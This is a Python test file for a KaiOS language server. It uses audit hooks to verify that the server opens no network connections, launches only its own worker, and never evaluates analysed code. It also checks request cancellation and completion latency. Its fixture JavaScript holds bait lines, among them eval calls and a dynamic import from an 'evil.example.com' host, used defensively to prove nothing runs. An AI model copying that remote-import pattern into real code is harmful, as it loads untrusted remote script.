"""The server never opens network connections, never runs programs other than its own
Python worker, and never evaluates the code it analyses — checked with Python audit hooks
(PEP 578) in the server and its worker process, over a session that touches every feature.
Also: cancelled requests are answered, not dropped."""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path

from tests.support.paths import DATA, TESTS
from tests.support.raw_lsp import RawServer

AUDIT = TESTS / "audit"
MARKER = "kaiosLspMarker7f3a"


def _session(tmp_path: Path) -> tuple[RawServer, Path]:
    app = tmp_path / "app"
    app.mkdir()
    (app / "manifest.webapp").write_text(
        '{"name": "Net", "type": "privileged", "launch_path": "/index.html",'
        ' "developer": {"url": "https://example.com"}, "permissions": {"systemXHR": {}}}'
    )
    (app / "index.html").write_text(
        '<!doctype html><script src="https://cdn.example.com/lib.js"></script>'
        f"<script>eval('{MARKER}()')</script><a href=\"javascript:{MARKER}()\">x</a>"
    )
    code = (
        f"var {MARKER} = 1;\nfetch('http://api.example.com/{MARKER}');\n"
        f"new Function('{MARKER}');\nsetTimeout('{MARKER}()', 5);\n"
        "import('https://evil.example.com/x.js');\n"
    )
    (app / "app.js").write_text(code)
    (app / "big.js").write_text(code * 8000)  # over 256 K characters: the worker process
    log = tmp_path / "audit.log"
    env = {
        "PYTHONPATH": os.pathsep.join(filter(None, [str(AUDIT), os.environ.get("PYTHONPATH")])),
        "KAIOS_AUDIT_LOG": str(log),
    }
    server = RawServer(env=env)
    rid = server.request(
        "initialize",
        {
            "processId": os.getpid(),
            "rootUri": app.as_uri(),
            "workspaceFolders": [{"uri": app.as_uri(), "name": "app"}],
            "capabilities": {},
            "initializationOptions": {"debounceMs": 0},
        },
    )
    server.response_to(rid)
    server.notify("initialized", {})
    return server, app


def _open_all(server: RawServer, app: Path) -> None:
    uris = set()
    for name, language in (
        ("manifest.webapp", "json"),
        ("index.html", "html"),
        ("app.js", "javascript"),
        ("big.js", "javascript"),
    ):
        uri = (app / name).as_uri()
        uris.add(uri)
        server.notify(
            "textDocument/didOpen",
            {
                "textDocument": {
                    "uri": uri,
                    "languageId": language,
                    "version": 1,
                    "text": (app / name).read_text(),
                }
            },
        )
    deadline = time.monotonic() + 60
    while uris and time.monotonic() < deadline:
        message = server.next_message(60)
        if message.get("method") == "textDocument/publishDiagnostics":
            uris.discard(message["params"]["uri"])
        elif "method" in message and "id" in message:
            server.send({"jsonrpc": "2.0", "id": message["id"], "result": None})
    assert not uris, f"no diagnostics for {uris}"


def _shutdown(server: RawServer) -> int:
    server.response_to(server.request("shutdown"), timeout=30)
    server.notify("exit")
    return server.close()


def test_no_network_no_programs_no_evaluation(tmp_path: Path) -> None:
    server, app = _session(tmp_path)
    _open_all(server, app)
    everything = {"start": {"line": 0, "character": 0}, "end": {"line": 99, "character": 0}}
    for name in ("manifest.webapp", "index.html", "app.js"):
        document = {"uri": (app / name).as_uri()}
        at = {"textDocument": document, "position": {"line": 0, "character": 12}}
        for method, params in (
            ("textDocument/completion", at),
            ("textDocument/hover", at),
            ("textDocument/documentLink", {"textDocument": document}),
            (
                "textDocument/codeAction",
                {"textDocument": document, "range": everything, "context": {"diagnostics": []}},
            ),
        ):
            response = server.response_to(server.request(method, params), timeout=60)
            assert "error" not in response, (method, name, response)
    response = server.response_to(
        server.request("workspace/executeCommand", {"command": "kaios-lsp.checkWorkspace"}),
        timeout=120,
    )
    assert response["result"]["files"] == 4
    assert _shutdown(server) == 0
    events = [line.split("\t", 2) for line in (tmp_path / "audit.log").read_text().splitlines()]
    assert events, "the audit hook did not run"
    network = [
        e
        for e in events
        if e[1].startswith(("socket.", "urllib", "http.client"))
        # asyncio's wake-up socketpair is a local AF_UNIX pair, not the network
        and not (e[1] == "socket.__new__" and ", 1, 1, 0)" in e[2])
    ]
    assert network == []
    assert any(e[1] == "exec" for e in events)  # the hook sees evaluation at all
    launched = [
        e
        for e in events
        if e[1] in ("subprocess.Popen", "os.posix_spawn") or e[1].startswith("os.exec")
    ]
    for _pid, _event, args in launched:  # only the analysis worker: this same Python
        assert os.path.realpath(sys.executable) in args or sys.executable in args, args
    evaluated = [e for e in events if e[1] in ("exec", "compile") and MARKER in e[2]]
    assert evaluated == []


def test_cancelled_requests_are_answered_and_the_server_carries_on(tmp_path: Path) -> None:
    server, app = _session(tmp_path)
    _open_all(server, app)
    check = server.request("workspace/executeCommand", {"command": "kaios-lsp.checkWorkspace"})
    hover = server.request(
        "textDocument/hover",
        {
            "textDocument": {"uri": (app / "manifest.webapp").as_uri()},
            "position": {"line": 0, "character": 3},
        },
    )
    server.notify("$/cancelRequest", {"id": check})
    server.notify("$/cancelRequest", {"id": hover})
    server.notify("$/cancelRequest", {"id": 12345})  # an id that was never used
    for rid in (check, hover):
        response = server.response_to(rid, timeout=120)
        assert "result" in response or response["error"]["code"] == -32800
    after = server.response_to(
        server.request(
            "textDocument/documentSymbol",
            {"textDocument": {"uri": (app / "manifest.webapp").as_uri()}},
        ),
        timeout=30,
    )
    assert after["result"]
    assert _shutdown(server) == 0


def test_completion_stays_fast_while_a_10_mb_script_is_analysed(tmp_path: Path) -> None:
    server, app = _session(tmp_path)
    manifest = (app / "manifest.webapp").as_uri()
    server.notify(
        "textDocument/didOpen",
        {
            "textDocument": {
                "uri": manifest,
                "languageId": "json",
                "version": 1,
                "text": (app / "manifest.webapp").read_text(),
            }
        },
    )
    corpus = sorted((DATA / "js" / "es2017").glob("*.js"))
    chunk = "".join(f"(function () {{\n{p.read_text()}\n}})();\n" for p in corpus)
    huge = chunk * (10_000_000 // len(chunk) + 1)
    bundle = (app / "bundle.js").as_uri()
    server.notify(
        "textDocument/didOpen",
        {"textDocument": {"uri": bundle, "languageId": "javascript", "version": 1, "text": huge}},
    )
    at = {"textDocument": {"uri": manifest}, "position": {"line": 0, "character": 3}}
    latencies: list[float] = []
    done = False
    deadline = time.monotonic() + 240
    while not done and time.monotonic() < deadline:
        start = time.perf_counter()
        rid = server.request("textDocument/completion", at)
        while True:  # read until our answer, noting whether the bundle's diagnostics came
            message = server.next_message(240)
            if message.get("method") == "textDocument/publishDiagnostics":
                done = done or message["params"]["uri"] == bundle
            elif message.get("id") == rid and "method" not in message:
                break
        latencies.append((time.perf_counter() - start) * 1000)
    assert done, "the 10 MB script was never analysed"
    latencies.sort()
    p95 = latencies[int(0.95 * (len(latencies) - 1))]
    assert len(latencies) >= 20 and p95 <= 50, (len(latencies), p95, latencies[-5:])
    assert _shutdown(server) == 0


def test_typing_in_the_manifest_does_not_starve_a_big_script_in_the_worker(
    tmp_path: Path,
) -> None:
    """Each manifest keystroke makes its scripts due for re-analysis; a big script already
    in the worker process must still get its diagnostics (regression: every keystroke used
    to cancel the wait and queue a new full analysis behind the running one)."""
    server, app = _session(tmp_path)
    manifest = (app / "manifest.webapp").as_uri()
    text = (app / "manifest.webapp").read_text()
    server.notify(
        "textDocument/didOpen",
        {"textDocument": {"uri": manifest, "languageId": "json", "version": 1, "text": text}},
    )
    big = (app / "big.js").as_uri()
    server.notify(
        "textDocument/didOpen",
        {
            "textDocument": {
                "uri": big,
                "languageId": "javascript",
                "version": 1,
                "text": (app / "big.js").read_text(),
            }
        },
    )
    at = {"line": 0, "character": 9}  # inside "Net"
    version, published = 1, False
    deadline = time.monotonic() + 60
    while not published and time.monotonic() < deadline:
        version += 1
        end = at if version % 2 == 0 else {"line": 0, "character": 10}
        server.notify(
            "textDocument/didChange",
            {
                "textDocument": {"uri": manifest, "version": version},
                "contentChanges": [
                    {"range": {"start": at, "end": end}, "text": "x" if version % 2 == 0 else ""}
                ],
            },
        )
        rid = server.request("kaios/documentText", {"uri": manifest})
        while True:
            message = server.next_message(60)
            if message.get("method") == "textDocument/publishDiagnostics":
                published = published or message["params"]["uri"] == big
            elif message.get("id") == rid and "method" not in message:
                break
        time.sleep(0.02)
    assert published, f"no diagnostics for the big script after {version} manifest edits"
    assert _shutdown(server) == 0
